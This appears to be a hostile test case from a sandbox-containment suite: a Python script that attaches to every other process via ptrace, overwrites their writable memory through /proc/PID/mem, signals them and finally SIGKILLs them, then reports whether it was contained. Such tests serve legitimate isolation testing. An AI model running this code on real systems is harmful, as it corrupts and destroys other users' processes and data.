# hostile-test
# id: REW-003
# title: stop, trace, rewrite and kill the copies and their supervisor
# class: process-attack
# lang: python
# expect: contained|killed|ok|memory
# severity: high
# limits: {"memory_mb": 256, "pids": 64, "wall_s": 10}
# checks: {"after": {"no_survivors_s": 2}, "next_run_ok": true}
# bounds: 5 s
# why: whoever holds what could be gone back to must only lose it himself
import sys
_e = []
def esc(m): _e.append(str(m))
def done(why="refused"):
    sys.stdout.write(("ESCAPED: " + " | ".join(_e)[:1800] if _e else "CONTAINED: " + why) + "\n")
    sys.stdout.flush()
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
own = {1, os.getpid()}
others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in own]
print("CONTAINED: %d others here: stop, trace, write, kill" % len(others)); sys.stdout.flush()
for pid in others:
    for request in (16, 0x4206): libc.ptrace(request, pid, 0, 0)
    try:
        with open("/proc/%d/mem" % pid, "r+b", 0) as mem:
            for line in open("/proc/%d/maps" % pid):
                if "rw-" in line:
                    start = int(line.split("-")[0], 16); mem.seek(start); mem.write(b"\xff" * 4096)
    except (OSError, ValueError): pass
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGCONT, signal.SIGUSR1):
        try: os.kill(pid, number)
        except OSError: pass
time.sleep(0.3)
for pid in sorted(others, reverse=True):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
time.sleep(0.3)
done("%d others were attacked" % len(others))
os._exit(9)
